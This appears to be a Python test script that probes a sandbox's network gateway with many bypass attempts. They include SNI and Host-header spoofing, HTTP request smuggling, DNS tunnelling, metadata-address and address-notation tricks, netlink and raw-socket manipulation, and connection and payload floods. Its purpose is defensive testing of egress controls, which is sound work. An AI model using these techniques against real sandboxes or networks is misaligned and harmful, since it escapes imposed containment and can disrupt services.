# Tries to get around the network of a sandbox: attack.py ATTACK [ARGUMENT...]. The last line that it
# prints is "refused" with what happened, or "THROUGH" with what it got.
import base64, ctypes, errno, os, resource, socket, ssl, struct, sys, threading, time

GOOD = "good.ok.example"  # a rule has it
OTHER = "other.no.example"  # no rule has it
SITE = os.environ["SITE"]  # the address of both
HTTP, SOCKS = ("127.64.0.1", 3128), ("127.64.0.1", 1080)
LIMIT = 60  # a guard against a hang


class Through(Exception):
    pass


def tcp(host, port):
    return socket.create_connection((host, port), timeout=LIMIT)


def rest(s, most=1 << 20):
    got = b""
    while len(got) < most:
        data = s.recv(65536)
        if not data:
            break
        got += data
    return got


def served(answer):
    """An answer of a server of the test's, not of the gateway, which answers with errors only."""
    if b"hello from" in answer:
        raise Through(repr(answer))
    return answer


def get(s, host, path="/hello", more=""):
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{more}\r\n".encode())
    return served(rest(s))


def tls(s, name, **more):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for key, value in more.items():
        getattr(context, key)(value)
    return context.wrap_socket(s, server_hostname=name)


def hello(name):
    """The first bytes of a client of TLS."""
    context = ssl.create_default_context()
    out = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def extended(record, kind, value):
    """A ClientHello with one extension more."""
    body = record[9:]  # behind the record's header and the message's
    at = 34
    at += 1 + body[at]
    at += 2 + struct.unpack(">H", body[at : at + 2])[0]
    at += 1 + body[at]
    more = body[at + 2 :] + struct.pack(">HH", kind, len(value)) + value
    body = body[:at] + struct.pack(">H", len(more)) + more
    message = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(message)) + message


def greeted(s):
    """A server answers a ClientHello with a handshake."""
    answer = s.recv(5)
    if answer[:1] == b"\x16":
        raise Through("the server answers the handshake")
    return answer


# --- names and addresses

def sni():  # the name of another site on the same addresses
    get(tls(tcp(GOOD, 443), OTHER), OTHER)


def sni_case():
    greeted_by = tcp(GOOD, 443)
    greeted_by.sendall(hello("gOOd.ok.example.no.example"))
    greeted(greeted_by)


def no_sni():
    get(tls(tcp(GOOD, 443), None), GOOD)


def ech():
    s = tcp(GOOD, 443)
    # Outer, HKDF-SHA256, AES-128-GCM, an identity, a key, a payload: RFC 9849, 5.
    s.sendall(extended(hello(GOOD), 0xFE0D, b"\0\0\1\0\1\7\0\x20" + os.urandom(32) + b"\0\x80" + os.urandom(128)))
    greeted(s)


def esni():
    s = tcp(GOOD, 443)
    s.sendall(extended(hello(GOOD), 0xFFCE, os.urandom(64)))
    greeted(s)


def two_sni():
    s = tcp(GOOD, 443)
    name = OTHER.encode()
    s.sendall(extended(hello(GOOD), 0, struct.pack(">HBH", len(name) + 3, 0, len(name)) + name))
    greeted(s)


def split_sni():  # a record for each few bytes
    s = tcp(GOOD, 443)
    message = hello(OTHER)[5:]
    for i in range(0, len(message), 20):
        part = message[i : i + 20]
        s.sendall(b"\x16\x03\x01" + struct.pack(">H", len(part)) + part)
    greeted(s)


def not_tls():
    s = tcp(GOOD, 443)
    s.sendall(b"SSH-2.0-x\r\n")
    if rest(s):
        raise Through("an answer")


def http_on_443():
    get(tcp(GOOD, 443), GOOD)


def tls_on_other_port():  # is checked where it occurs
    s = tcp(GOOD, 7007)
    s.sendall(hello(OTHER))
    greeted(s)


def host():
    get(tcp(GOOD, 80), OTHER)


def no_host():
    s = tcp(GOOD, 80)
    s.sendall(b"GET /hello HTTP/1.0\r\n\r\n")
    served(rest(s))


def two_hosts():
    get(tcp(GOOD, 80), GOOD, more=f"Host: {OTHER}\r\n")


def absolute():
    get(tcp(GOOD, 80), GOOD, path=f"http://{OTHER}/hello")


def second():  # request of a connection
    s = tcp(GOOD, 80)
    s.sendall(f"GET /empty HTTP/1.1\r\nHost: {GOOD}\r\n\r\n".encode())
    s.recv(65536)
    get(s, OTHER)


def pipelined():
    s = tcp(GOOD, 80)
    s.sendall(f"GET /empty HTTP/1.1\r\nHost: {GOOD}\r\n\r\nGET /hello HTTP/1.1\r\nHost: {OTHER}\r\nConnection: close\r\n\r\n".encode())
    served(rest(s))


def smuggled():  # a body that one parser takes for the next request
    s = tcp(GOOD, 80)
    inner = f"GET /hello HTTP/1.1\r\nHost: {OTHER}\r\nConnection: close\r\n\r\n"
    s.sendall(f"POST /empty HTTP/1.1\r\nHost: {GOOD}\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}".encode())
    served(rest(s))


def smuggled_length():
    s = tcp(GOOD, 80)
    inner = f"GET /hello HTTP/1.1\r\nHost: {OTHER}\r\nConnection: close\r\n\r\n"
    s.sendall(f"POST /empty HTTP/1.1\r\nHost: {GOOD}\r\nContent-Length: 0\r\nContent-Length: {len(inner)}\r\n\r\n{inner}".encode())
    served(rest(s))


def prior_knowledge():  # HTTP/2 without TLS
    s = tcp(GOOD, 80)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0]))
    answer = rest(s)
    if answer and not answer.startswith(b"HTTP/1.1 4"):
        raise Through(repr(answer))


def h2c():
    s = tcp(GOOD, 80)
    s.sendall(f"GET /empty HTTP/1.1\r\nHost: {GOOD}\r\nConnection: Upgrade, HTTP2-Settings, close\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n".encode())
    answer = rest(s)
    if b" 101 " in answer.split(b"\r\n")[0]:
        raise Through(repr(answer))


def unknown_name():
    tcp(OTHER, 443)
    raise Through("the name has an address")


def port():  # a listener is there for the rule of another name
    s = tcp("web.one.example", 443)
    greeted_by = hello("web.one.example")
    s.sendall(greeted_by)
    greeted(s)


def bad_address(name):  # a name that a rule has, with an address that is not public
    for number in 80, 8080:
        try:
            get(tcp(name, number), name)
        except OSError as e:
            print(number, e)
    s = tcp(name, 443)
    s.sendall(hello(name))
    greeted(s)


def elsewhere(name):  # addresses of which some are public; the test looks at where the connections went
    n = 0
    for i in range(20):
        try:
            if i % 2:
                s = tcp(name, 80)
                s.sendall(f"GET /hello HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())
                n += b"hello from" in rest(s)
            else:
                s = tcp(name, 7007)
                s.sendall(b"x")
                n += s.recv(1) == b"x"
        except OSError as e:
            print(e)
    print(n, "of 20 connections to a public address")
    assert n > 0


def raw():
    for address in SITE, "8.8.8.8", "10.1.2.3", "169.254.169.254":
        for number in 53, 80, 443:
            try:
                tcp(address, number)
            except OSError as e:
                print(address, number, e)
            else:
                raise Through(address)


def raw6():
    for address in "2600:45:45::10", "::ffff:" + SITE, "::ffff:169.254.169.254", "fd00::1", "2002:7f00:1::1", "64:ff9b::7f00:1", "::127.0.0.1", "ff02::1":
        try:
            s = tcp(address, 80)
        except OSError as e:
            print(address, e)
        else:
            raise Through(address)


def loopbacks():  # these are the sandbox's own: what listens at a port that a rule has is the gateway
    for address in "127.0.0.1", "127.1.2.3", "127.64.0.200", "127.127.255.255", "::ffff:127.0.0.1", "0.0.0.0":
        for number in 80, 8080:
            try:
                get(tcp(address, number), "localhost")
            except OSError as e:
                print(address, number, e)
    unassigned()


def unassigned():
    s = tcp("127.100.1.1", 443)
    s.sendall(hello(GOOD))
    greeted(s)


def notations():  # of addresses, as programs read them
    for text in "2130706433", "0x7f000001", "017700000001", "0177.0.0.1", "0x7f.1", "127.1", "757935370", "0x2d2d2d0a":
        try:
            get(tcp(text, 80), text)
        except OSError as e:
            print(text, e)


# --- proxies

def connect(target, payload=None):
    s = tcp(*HTTP)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    answer = s.recv(65536)
    print(answer.split(b"\r\n")[0])
    if b" 200 " in answer.split(b"\r\n")[0] + b" ":
        s.sendall(payload or f"GET /hello HTTP/1.1\r\nHost: {target.rpartition(':')[0]}\r\nConnection: close\r\n\r\n".encode())
        answer = served(rest(s))
        if answer[:1] == b"\x16":
            raise Through("the server answers the handshake")
        print(answer[:200])


def connect_sni():
    connect(GOOD + ":443", hello(OTHER))


def connect_host():
    connect(GOOD + ":80", f"GET /hello HTTP/1.1\r\nHost: {OTHER}\r\nConnection: close\r\n\r\n".encode())


def proxy_get(target, name=None):
    s = tcp(*HTTP)
    s.sendall(f"GET {target} HTTP/1.1\r\nHost: {name or GOOD}\r\nConnection: close\r\n\r\n".encode())
    print(served(rest(s)).split(b"\r\n")[0])


def socks(kind, text, number, command="1", payload=None):
    address = {
        "1": lambda: socket.inet_aton(text), "4": lambda: socket.inet_pton(socket.AF_INET6, text), "3": lambda: bytes([len(text)]) + text.encode(),
    }[kind]()
    s = tcp(*SOCKS)
    s.sendall(b"\x05\x01\x00")
    if s.recv(2) != b"\x05\x00":
        return
    s.sendall(bytes([5, int(command), 0, int(kind)]) + address + struct.pack(">H", int(number)))
    answer = s.recv(10)
    print(answer)
    if len(answer) < 2 or answer[1] != 0:
        return
    if command != "1":
        raise Through("the command is granted")
    get(s, text)


def socks_sni():
    s = tcp(*SOCKS)
    s.sendall(b"\x05\x01\x00")
    s.recv(2)
    s.sendall(b"\x05\x01\x00\x03" + bytes([len(GOOD)]) + GOOD.encode() + struct.pack(">H", 443))
    s.recv(10)
    s.sendall(hello(OTHER))
    greeted(s)


# --- DNS

def query(name, kind, identity=1):
    labels = b"".join(bytes([len(l)]) + l for l in name.split(b".")) + b"\0"
    return struct.pack(">HHHHHH", identity, 0x100, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1)


def ask(message, wait=LIMIT):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(wait)
    s.connect(("127.64.0.1", 53))
    s.send(message)
    return s.recv(65535)


def tunnel():  # data in names; the test looks at what the host's name server was asked
    secret = base64.b32encode(os.urandom(30)).decode().strip("=").lower()
    for name in f"{secret}.no.example", f"{secret}.tunnel.example", f"{secret}.ok.example", f"{secret}.{GOOD}", f"{secret}.in-addr.arpa":
        for kind in 1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 43, 48, 64, 65, 99, 252, 255, 256, 65280:
            answer = ask(query(name.encode(), kind))
            records = struct.unpack(">H", answer[6:8])[0]
            if records and kind != 1 and kind != 255:
                raise Through(f"{name} {kind}: {answer}")


def dns_garbage():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("127.64.0.1", 53))
    good = query(GOOD.encode(), 1)
    pointer = good[:12] + b"\xc0\x0c" + good[-4:]
    for i in range(2000):
        for data in (os.urandom(1 + i % 600), good[: i % len(good)], pointer, good[:4] + b"\xff" * 8 + good[12:], good + os.urandom(i % 1200), b"\0" * 60000):
            try:
                s.send(data)
            except OSError:
                pass
    t = tcp("127.64.0.1", 53)
    try:
        t.sendall(b"\xff\xff" + os.urandom(65535) * 2)
    except OSError as e:
        print(e)
    held = []
    for _ in range(500):  # connections that say nothing
        try:
            held.append(socket.create_connection(("127.64.0.1", 53), timeout=1))
        except OSError as e:
            print(len(held), e)
            break
    for attempt in range(10):  # some are lost behind the flood
        try:
            answer = ask(good, 6)
            assert answer[3] & 15 == 0 and struct.unpack(">H", answer[6:8])[0] == 1, answer
            return
        except TimeoutError as e:
            print(e)
    print("NO ANSWER")
    raise Through("the resolver does not answer any more")


def names():  # more than there are addresses
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(LIMIT)
    s.connect(("127.64.0.1", 53))
    codes = {}
    for first in range(0, 70000, 16):  # some at a time: each wait wakes up processes
        for i in range(first, first + 16):
            s.send(query(b"n%d.ok.example" % i, 1, i & 0xFFFF))
        for i in range(16):
            code = s.recv(4096)[3] & 15
            codes[code] = codes.get(code, 0) + 1
    print(codes)
    if set(codes) != {0, 2}:
        raise Through("no bound")


# --- other ways

def udp():
    for to in (GOOD, 443), (GOOD, 80), (SITE, 443), (SITE, 53), ("8.8.8.8", 53), ("127.64.0.1", 443), ("2600:45:45::10", 443), ("239.1.1.1", 5353), ("255.255.255.255", 67):
        try:
            family, kind, _, _, address = socket.getaddrinfo(to[0], to[1], type=socket.SOCK_DGRAM)[0]
            s = socket.socket(family, kind)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.settimeout(1)
            s.connect(address)
            s.send(b"\xc0\0\0\0\x01" + os.urandom(1195))
            answer = s.recv(2000)
        except OSError as e:
            print(to, e)
        else:
            raise Through(f"{to} answers {answer}")


def device():
    for name in b"lo", b"eth0", b"wlan0", b"docker0", b"tun0":
        for family in socket.AF_INET, socket.AF_INET6:
            s = socket.socket(family, socket.SOCK_STREAM)
            s.settimeout(5)
            try:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, name + b"\0")
                s.connect((SITE if family == socket.AF_INET else "2600:45:45::10", 80))
            except OSError as e:
                print(name, e)
            else:
                raise Through(repr(name))


def netlink():
    index = struct.pack("=I", 1)
    route = struct.pack("=BBBBBBBBI", socket.AF_INET, 0, 0, 0, 254, 4, 0, 1, 0) + struct.pack("=HH", 8, 4) + index
    address = struct.pack("=BBBBI", socket.AF_INET, 32, 0, 0, 1) + struct.pack("=HH", 8, 2) + socket.inet_aton(SITE)
    link = struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0) + struct.pack("=HH", 10, 3) + b"dummy\0\0\0"
    rule = struct.pack("=BBBBBBBBI", socket.AF_INET, 0, 0, 0, 254, 0, 0, 1, 0)
    for name, kind, body in ("route", 24, route), ("address", 20, address), ("link", 16, link), ("rule", 32, rule):
        try:
            s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
            s.settimeout(5)
            s.bind((0, 0))
            s.send(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
            answer = s.recv(4096)
            code = struct.unpack("=i", answer[16:20])[0]
        except OSError as e:
            print(name, e)
            continue
        print(name, errno.errorcode.get(-code, code))
        if code == 0:
            raise Through(name)
    for request in 0x8916, 0x8914, 0x890B:  # SIOCSIFADDR, SIOCSIFFLAGS, SIOCADDRT
        import fcntl
        try:
            fcntl.ioctl(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), request, b"lo".ljust(16, b"\0") + struct.pack("=HH4s", 2, 0, socket.inet_aton(SITE)).ljust(104, b"\0"))
        except OSError as e:
            print(hex(request), e)
        else:
            raise Through(hex(request))


def raw_sockets():
    for family, kind, proto in (socket.AF_INET, socket.SOCK_RAW, 6), (socket.AF_INET, socket.SOCK_RAW, 255), (socket.AF_PACKET, socket.SOCK_RAW, 0x0300), (socket.AF_INET6, socket.SOCK_RAW, 58):
        try:
            socket.socket(family, kind, proto)
        except OSError as e:
            print(family, e)
        else:
            raise Through(f"a raw socket {family}")


def abstract(*names):
    for name in names:
        for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET:
            s = socket.socket(socket.AF_UNIX, kind)
            try:
                s.connect("\0" + name)
            except OSError as e:
                print(name, e)
            else:
                raise Through(name)


def vsock():
    for cid in 0, 1, 2:
        try:
            s = socket.socket(40, socket.SOCK_STREAM)
            s.settimeout(2)
            s.connect((cid, 22))
        except (OSError, TypeError) as e:
            print(cid, e)
        else:
            raise Through(f"vsock {cid}")


def transparent():  # bind to a public address, and use it as one's own
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    for level, option in (0, 19), (0, 15):  # IP_TRANSPARENT, IP_FREEBIND
        try:
            s.setsockopt(level, option, 1)
            s.bind((SITE, 0))
            s.connect(("8.8.8.8", 53))
        except OSError as e:
            print(option, e)
        else:
            raise Through(str(option))


# --- floods: what they take is seen from outside

def descriptors():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def many(count, address=GOOD, number="443"):
    """COUNT connections at once, of several processes, held until all are there."""
    count, number = int(count), int(number)
    each = min(descriptors() - 100, 2500)
    address = socket.gethostbyname(address)
    children = []
    for first in range(0, count, each):
        read, write = os.pipe()
        go, start = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(start)
            held, failed = [], 0
            for _ in range(min(each, count - first)):
                s = socket.socket()
                s.setblocking(False)
                held.append(s)
                failed += s.connect_ex((address, number)) not in (0, errno.EINPROGRESS)
            os.write(write, b"%d %d\n" % (len(held), failed))
            os.close(write)
            os.read(go, 1)
            os._exit(0)
        os.close(write)
        os.close(go)
        children.append((pid, read, start))
    for _, read, _ in children:
        print(os.read(read, 100).decode().strip())
    try:
        sys.stdin.read()  # the test measures now
    finally:
        for _, _, start in children:
            os.close(start)
        for pid, _, _ in children:
            os.waitpid(pid, 0)


def slow(number="443"):
    """Connections that say little. Each has to end."""
    held = []
    for i in range(100):
        s = tcp(GOOD, int(number))
        s.sendall((hello(GOOD) if number == "443" else b"GET / HTTP/1.1\r\nHost: " + GOOD.encode())[: i % 40])
        held.append(s)
    for s in held:
        s.settimeout(LIMIT)
        try:
            served(s.recv(4096))
        except ConnectionError:
            pass


def slow_proxy():
    held = []
    for i in range(50):
        for to, text in (HTTP, b"CONNECT good.ok.example:443 HTTP/1.1\r\nHost: x\r\n"), (SOCKS, b"\x05\x01\x00\x05\x01\x00\x03\x0fgood"):
            s = tcp(*to)
            s.sendall(text[: i % len(text)])
            held.append(s)
    for s in held:
        s.settimeout(LIMIT)
        try:
            while s.recv(4096):
                pass
        except ConnectionError:
            pass


def huge():
    tls_record = b"\x16\x03\x01\x40\x00"
    message = tls_record + b"\x01\xff\xff\xff\x03\x03" + bytes(16378)
    for number, text in (443, message + (tls_record + bytes(16384)) * 400), (80, b"GET / HTTP/1.1\r\nHost: " + GOOD.encode() + b"\r\n" + b"X: " + b"x" * 8000000), (80, b"G" * 8000000), (443, b"\x16" * 8000000):
        s = tcp(GOOD, number)
        try:
            s.sendall(text)
            served(rest(s))
        except (ConnectionError, BrokenPipeError) as e:
            print(number, e)
    for to, text in (HTTP, b"CONNECT " + b"a" * 8000000), (HTTP, b"GET http://good.ok.example/hello HTTP/1.1\r\n" + b"A: b\r\n" * 1000000), (SOCKS, b"\x05\xff" + b"\1" * 8000000):
        s = tcp(*to)
        try:
            s.sendall(text)
            served(rest(s))
        except (ConnectionError, BrokenPipeError) as e:
            print(to, e)


def half_open():
    """Connections that end at once, in all ways."""
    address = socket.gethostbyname(GOOD)
    for i in range(3000):
        s = socket.socket()
        s.settimeout(LIMIT)
        try:
            s.connect(((address, 443), (address, 80), (address, 7007), HTTP, SOCKS)[i % 5])
            if i % 3 == 0:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            elif i % 3 == 1:
                s.shutdown(socket.SHUT_WR)
        except OSError as e:
            print(i, e)
        s.close()


def unread(count):
    """Large downloads that are not read."""
    held = []
    for _ in range(int(count)):
        s = tcp(GOOD, 80)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.sendall(f"GET /big HTTP/1.1\r\nHost: {GOOD}\r\n\r\n".encode())
        held.append(s)
    for s in held:
        s.recv(1)
    print(len(held))
    sys.stdin.read()


if __name__ == "__main__":
    try:
        globals()[sys.argv[1]](*sys.argv[2:])
        print("refused")
    except Through as e:
        print("THROUGH", e)
        sys.exit(1)
    except (OSError, ssl.SSLError) as e:
        print("refused:", repr(e))
